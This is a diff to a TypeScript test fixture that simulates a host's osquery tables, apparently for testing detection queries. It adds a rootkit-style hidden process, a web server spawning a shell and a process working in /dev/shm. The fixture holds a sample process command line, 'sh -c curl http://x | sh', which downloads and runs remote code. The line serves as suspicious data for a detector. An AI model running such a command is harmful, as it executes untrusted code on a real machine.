@@ -4,6 +4,8 @@ export interface ModelHostOptions {
   readonly processes?: number
   /** Open connections, spread over the processes. */
   readonly connections?: number
+  /** The number of osquery's own process: that of the newest one. */
+  readonly osqueryPid?: number
   /** Rows that replace a table of the model. */
   readonly tables?: Readonly<Record<string, readonly Row[]>>
 }
@@ -20,9 +22,12 @@ const SOCKETS_PER_LISTENER = 40
 export function modelHost({
   processes = 300,
   connections = 0,
+  osqueryPid = processes + 1,
   tables = {}
 }: ModelHostOptions = {}): Generate {
-  const pids = Array.from({ length: processes }, (_, index) => index + 1)
+  const pids = Array.from({ length: processes + 1 }, (_, index) => index + 1).filter(
+    pid => pid !== HIDDEN_PID
+  )
   const model: Record<string, readonly Row[]> = {
     processes: pids.map(processRow),
     process_envs: pids.flatMap(pid => [
@@ -40,7 +45,8 @@ export function modelHost({
     process_open_files: pids.map(pid => ({ pid, path: '/tmp/x (deleted)' })),
     process_namespaces: pids.map(pid => ({ pid, pid_namespace: '4026531836' })),
     process_open_sockets: Array.from({ length: connections }, (_, index) => ({
-      pid: pids[index % processes] ?? 1,
+      pid: index === 7 ? -1 : (pids[index % processes] ?? 1),
+      socket: 100_000 + index,
       fd: index % 50 === 0 ? 0 : 5,
       family: 2,
       protocol: 6,
@@ -57,7 +63,7 @@ export function modelHost({
       family: index === 0 ? 17 : 2,
       address: '0.0.0.0'
     })),
-    osquery_info: [{ pid: processes, version: '5.23.1' }],
+    osquery_info: [{ pid: osqueryPid, version: '5.23.1' }],
     users: Array.from({ length: 40 }, (_, uid) => ({
       uid,
       username: `user${uid}`,
@@ -86,7 +92,8 @@ export function modelHost({
       id: `c${id}`,
       image: 'app',
       state: 'running',
-      privileged: id === 0 ? 1 : 0
+      privileged: id === 0 ? 1 : 0,
+      pid_namespace: id === 1 ? '4026531836' : '4026532999'
     })),
     docker_container_mounts: [{ id: 'c0', type: 'bind', source: '/', destination: '/host', rw: 1 }],
     system_controls: [
@@ -99,9 +106,26 @@ export function modelHost({
     logged_in_users: [{ user: 'user1', type: 'user' }],
     ...tables
   }
+  const byPid = new Map<string, Map<string, Row[]>>()
+
+  /** The rows of the processes that are asked for, found as quickly as osquery finds them. */
+  function rowsOfPids(table: string, rows: readonly Row[], { equals }: Constraints): readonly Row[] {
+    const pids = equals.get('pid')
+    if (pids === undefined) return rows
+    let index = byPid.get(table)
+    if (index === undefined) {
+      index = new Map()
+      for (const row of rows) index.set(String(row.pid), [...(index.get(String(row.pid)) ?? []), row])
+      byPid.set(table, index)
+    }
+    return pids.flatMap(pid => index.get(String(pid)) ?? [])
+  }
+
   return (table, constraints) => {
     const rows = model[table]
-    if (rows !== undefined) return rows.filter(row => fits(row, constraints))
+    if (table === 'processes' && constraints.equals.get('pid')?.some(pid => Number(pid) === HIDDEN_PID))
+      return [processRow(HIDDEN_PID)]
+    if (rows !== undefined) return rowsOfPids(table, rows, constraints).filter(row => fits(row, constraints))
     if (table === 'file' || table === 'hash' || table === 'extended_attributes') return files(constraints)
     if (table === 'authorized_keys' || table === 'shell_history')
       return (constraints.equals.get('uid') ?? []).map(uid => ({
@@ -116,6 +140,9 @@ export function modelHost({
   }
 }
 
+/** The pid that answers by number and is in no list, as if a rootkit hid it. */
+const HIDDEN_PID = 12
+
 /** The processes that the queries look for, by pid. */
 const ODD_PROCESSES: Readonly<Record<number, Row>> = {
   2: { parent: 1, path: '/usr/sbin/sshd', name: 'sshd' },
@@ -125,6 +152,8 @@ const ODD_PROCESSES: Readonly<Record<number, Row>> = {
   6: { parent: 4_000_000 },
   8: { path: '/usr/bin/dpkg', name: 'dpkg' },
   9: { cmdline: 'sh -c curl http://x | sh' },
+  15: { path: '/usr/sbin/nginx', name: 'nginx' },
+  16: { parent: 15, path: '/usr/bin/dash', name: 'dash' },
   11: { path: '/memfd:x', name: 'memfd:x', on_disk: 0 }
 }
 
@@ -133,7 +162,7 @@ function processRow(pid: number): Row {
     pid % 10 === 0 ? '/usr/bin/python3.11' : pid % 7 === 0 ? '/usr/bin/bash' : `/usr/bin/program${pid}`
   return {
     pid,
-    parent: pid === 1 ? 0 : Math.ceil(pid / 4),
+    parent: pid === 1 ? 0 : Math.min(Math.ceil(pid / 4), HIDDEN_PID - 1),
     path: pid === 1 ? '/usr/lib/systemd/systemd' : path,
     name: pid % 10 === 0 ? 'python3' : pid % 7 === 0 ? 'bash' : `program${pid}`,
     cmdline: `${path} --serve`,
@@ -141,7 +170,7 @@ function processRow(pid: number): Row {
     state: 'S',
     on_disk: pid % 50 === 0 ? 0 : 1,
     cgroup_path: '/system.slice/app.service',
-    cwd: '/',
+    cwd: pid === 14 ? '/dev/shm' : '/',
     root: '/',
     ...ODD_PROCESSES[pid]
   }
@@ -177,7 +206,9 @@ function files({ equals, like }: Constraints): Row[] {
     uid: 0,
     gid: 0,
     symlink: 0,
-    device: 1,
+    // As osquery: the number of a device file, and 0 for any other.
+    device: 0,
+    ctime: path.endsWith('f0') ? Math.floor(Date.now() / 1_000) : 1_600_000_000,
     sha256: 'x',
     key: 'security.capability',
     value: 'cap_net_raw=ep'
